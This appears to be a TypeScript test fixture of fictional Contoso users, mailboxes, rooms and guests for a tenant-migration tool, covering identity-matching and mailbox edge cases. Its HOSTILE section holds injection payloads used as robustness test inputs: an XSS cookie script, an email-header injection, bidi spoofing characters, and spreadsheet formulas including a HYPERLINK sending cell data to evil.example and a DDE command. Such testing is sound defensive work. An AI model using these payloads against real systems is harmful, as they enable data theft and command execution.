// The people of Contoso, the source: who is special, and how. Forty of them stand here, twenty are ordinary.
import { ADELE } from './constants.ts'
import { ordinaryPeopleOf } from './ordinary-people.ts'
import type { PersonRecipe } from './person.ts'

const GB = 2 ** 30
const RECIPIENTS = '/o=ExchangeLabs/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients'

const synced = (account: string) => ({
  onPremisesSyncEnabled: true,
  onPremisesSamAccountName: account,
  onPremisesDomainName: 'corp.contoso.com',
  onPremisesLastSyncDateTime: '2026-11-01T06:00:00Z',
})

/** In Fabrikam as well, by one sign or another; or seemingly. */
const MATCHED: readonly PersonRecipe[] = [
  {
    id: ADELE.oid,
    name: ADELE.name,
    given: 'Adele',
    surname: 'Vance',
    local: 'adele',
    licence: 'E5',
    user: { employeeId: 'E1000' },
  },
  {
    name: 'Alice Smith',
    given: 'Alice',
    surname: 'Smith',
    local: 'alice',
    aliases: ['asmith@contoso.com'],
    legacyExchangeDn: `${RECIPIENTS}/cn=0a1b-alice`,
    user: { employeeId: 'E1001' },
  },
  // Moved already, and forwards what still comes.
  {
    name: 'Bob Baker',
    given: 'Bob',
    surname: 'Baker',
    local: 'bob',
    user: { employeeId: 'E1002' },
    mailbox: { ForwardingSmtpAddress: 'smtp:bob@fabrikam.com', DeliverToMailboxAndForward: true },
  },
  {
    name: 'Carol Jones',
    given: 'Carol',
    surname: 'Jones',
    local: 'carol',
    aliases: ['carol+news@contoso.com'],
    user: { employeeId: 'E1003' },
  },
  // Same name before the @ in Fabrikam, another person.
  { name: 'Sara Svensson', given: 'Sara', surname: 'Svensson', local: 'sara', user: { employeeId: 'E1004' } },
  // Same display name in Fabrikam, another person, another address.
  { name: 'Jan Novak', given: 'Jan', surname: 'Novak', local: 'jan', user: { employeeId: 'E1005' } },
  // Two people of Fabrikam have her employee number.
  { name: 'Grace Hall', given: 'Grace', surname: 'Hall', local: 'grace.hall', user: { employeeId: 'E1040' } },
  // Two accounts of one man, who has one account in Fabrikam.
  { name: 'Frank Miller', given: 'Frank', surname: 'Miller', local: 'frank.miller', user: { employeeId: 'E1050' } },
  {
    name: 'Frank Miller (Admin)',
    given: 'Frank',
    surname: 'Miller',
    local: 'frank.admin',
    user: { employeeId: 'E1050' },
  },
  // One on-premises directory fed both tenants once.
  {
    name: 'Ivan Orlov',
    given: 'Ivan',
    surname: 'Orlov',
    local: 'ivan',
    user: { ...synced('iorlov'), onPremisesImmutableId: 'q1Pz7mCk8kOZ0Vd3bVQm0w==' },
  },
  {
    name: 'Erika Mann',
    given: 'Erika',
    surname: 'Mann',
    local: 'erika',
    user: { onPremisesExtensionAttributes: { extensionAttribute1: 'P-7781' } },
  },
  // Fabrikam knows him as a mail user with his Contoso address.
  { name: 'Pablo Ruiz', given: 'Pablo', surname: 'Ruiz', local: 'pablo' },
  // Letters of her name are composed here and decomposed there; case differs in the address.
  {
    name: 'Zoë Brontë'.normalize('NFC'),
    given: 'Zoë',
    surname: 'Brontë',
    local: 'Zoe.Bronte',
    user: { employeeId: 'e1060 ' },
  },
]

/** The directory has something of them that moving has to deal with. */
const DIRECTORY: readonly PersonRecipe[] = [
  { name: "Miles O'Brien", given: 'Miles', surname: "O'Brien", local: "miles.o'brien" },
  { name: 'Heidi Klein', given: 'Heidi', surname: 'Klein', local: 'heidi', licence: 'none' },
  {
    name: 'Norbert Frei',
    given: 'Norbert',
    surname: 'Frei',
    local: 'norbert',
    licence: 'none',
    user: { usageLocation: null },
  },
  { name: 'Judy Moore', given: 'Judy', surname: 'Moore', local: 'judy', user: { accountEnabled: false } },
  { name: 'Peggy Olson', given: 'Peggy', surname: 'Olson', local: 'peggy', user: { usageLocation: null } },
  {
    name: 'Quentin Blake',
    given: 'Quentin',
    surname: 'Blake',
    local: 'quentin',
    userPrincipalName: 'q.blake@corp.contoso.com',
  },
  {
    name: 'Rupert Giles',
    given: 'Rupert',
    surname: 'Giles',
    local: 'rupert',
    domain: 'corp.contoso.com',
    user: synced('rgiles'),
  },
  { name: 'Sybil Crane', given: 'Sybil', surname: 'Crane', local: 'sybil', domain: 'sts.contoso.com' },
  { name: 'Trent Lott', given: 'Trent', surname: 'Lott', local: 'trent', domain: 'contoso.onmicrosoft.com' },
  { name: 'Victor Müller', given: 'Victor', surname: 'Müller', local: 'victor', domain: 'xn--mnchen-3ya.contoso.com' },
  { name: 'Wendy West', given: 'Wendy', surname: 'West', local: 'Wendy.West', domain: 'Contoso.com', licence: 'F3' },
  {
    name: 'Yves Petit',
    given: 'Yves',
    surname: 'Petit',
    local: 'yves',
    licence: 'E5',
    user: { preferredDataLocation: 'EUR', ...synced('ypetit') },
  },
  { name: 'No Drive', given: 'Nora', surname: 'Drive', local: 'nora', driveBytes: null },
]

/** The mailbox has. */
const MAILBOXES: readonly PersonRecipe[] = [
  { name: 'Ken Hidden', given: 'Ken', surname: 'Hidden', local: 'ken', isHidden: true },
  {
    name: 'Laura Held',
    given: 'Laura',
    surname: 'Held',
    local: 'laura',
    archiveBytes: 12 * GB,
    mailbox: { LitigationHoldEnabled: true, LitigationHoldDuration: 'Unlimited', RetentionHoldEnabled: true },
  },
  {
    name: 'Walter Hold',
    given: 'Walter',
    surname: 'Hold',
    local: 'walter',
    mailbox: { InPlaceHolds: ['mbx5c1b4d6f2a904e0c8c3d2b1a09f8e7d6:2'], DelayHoldApplied: true },
  },
  {
    name: 'Nina Archer',
    given: 'Nina',
    surname: 'Archer',
    local: 'nina',
    licence: 'E5',
    archiveBytes: 340 * GB,
    mailbox: { AutoExpandingArchiveEnabled: true },
  },
  {
    name: 'Oscar Large',
    given: 'Oscar',
    surname: 'Large',
    local: 'oscar',
    licence: 'E5',
    sizeBytes: 97 * GB,
    driveBytes: 1600 * GB,
  },
  {
    name: 'Xenia Post',
    given: 'Xenia',
    surname: 'Post',
    local: 'xenia',
    otherAddresses: [
      `X500:/o=OldCorp/ou=First Administrative Group/cn=Recipients/cn=xpost`,
      'X500:/o=OldCorp/cn=Recipients/cn=xenia',
      'EUM:7001;phone-context=dialplan.contoso.com',
    ],
  },
  {
    name: 'Simon Call',
    given: 'Simon',
    surname: 'Call',
    local: 'simon',
    otherAddresses: ['SIP:s.call@corp.contoso.com'],
  },
  // To an address outside, and to a colleague: Exchange takes the colleague.
  {
    name: 'Fred Ward',
    given: 'Fred',
    surname: 'Ward',
    local: 'fred',
    mailbox: { ForwardingSmtpAddress: 'smtp:fred@example.net', ForwardingAddress: 'carol' },
  },
  {
    name: 'Dora Chief',
    given: 'Dora',
    surname: 'Chief',
    local: 'dora',
    mailbox: { GrantSendOnBehalfTo: ['alice', 'bob'], MaxReceiveSize: '150 MB (157,286,400 bytes)' },
  },
]

/** Names that somebody may have, and what reads them must survive. */
const HOSTILE: readonly PersonRecipe[] = [
  { name: '<script>alert(document.cookie)</script>', local: 'mallory' },
  { name: 'Eve\r\nBcc: everybody@example.net\r\n\r\n', local: 'eve', user: { department: 'a\tb\nc' } },
  { name: '\u202Etxt.ecaf\u202C \u200B\u2066', local: 'rita.rtl' },
  {
    name: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
    local: 'formula',
    user: { jobTitle: '+cmd|/C calc!A0', companyName: '@SUM(1+1)', department: '-2+3' },
  },
  { name: 'N'.repeat(256), local: 'n'.repeat(64), user: { streetAddress: `${'Long Street '.repeat(5461)}1600` } },
]

const OTHERS: readonly PersonRecipe[] = [
  { kind: 'shared', name: 'Sales', local: 'sales', sizeBytes: 8 * GB },
  {
    kind: 'shared',
    name: 'Press',
    local: 'press',
    isHidden: true,
    mailbox: { ForwardingSmtpAddress: 'smtp:agency@example.net' },
  },
  // More than a mailbox without a licence may hold.
  { kind: 'shared', name: 'Archive of Invoices', local: 'invoices', sizeBytes: 61 * GB },
  { kind: 'room', name: 'Room 1 (Contoso)', local: 'room1' },
  { kind: 'room', name: 'Boardroom', local: 'boardroom', domain: 'corp.contoso.com' },
  { kind: 'equipment', name: 'Projector', local: 'projector' },
  { kind: 'guest', name: 'Dana Outside', local: 'dana-guest', external: 'dana@example.net' },
  { kind: 'guest', name: 'Lee Gu (guest)', local: 'lee-guest', external: 'lee@fabrikam.com' },
  {
    kind: 'guest',
    name: 'Pending Guest',
    local: 'pending-guest',
    external: 'pending@example.org',
    user: { externalUserState: 'PendingAcceptance' },
  },
  { kind: 'mail-user', name: 'Petra Novy (Fabrikam)', local: 'petra.fabrikam', external: 'petra.novy@fabrikam.com' },
]

export const CONTOSO_PEOPLE: readonly PersonRecipe[] = [
  ...MATCHED,
  ...DIRECTORY,
  ...MAILBOXES,
  ...HOSTILE,
  ...ordinaryPeopleOf('contoso'),
  ...OTHERS,
]
